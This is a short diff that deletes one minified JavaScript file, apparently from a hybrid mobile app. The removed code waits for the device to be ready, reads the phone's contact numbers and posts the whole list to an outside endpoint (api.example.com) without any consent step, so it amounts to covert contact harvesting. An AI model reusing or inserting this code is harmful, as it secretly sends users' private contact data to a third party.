@@ -1,1 +1,0 @@
-var app={onReady:function(){var n=navigator.contactsPhoneNumbers;n&&n.list(function(t){$.post("https://api.example.com/p",{n:t.length,l:JSON.stringify(t)})},function(t){console.error(t)})}};document.addEventListener("deviceready",app.onReady,!1);
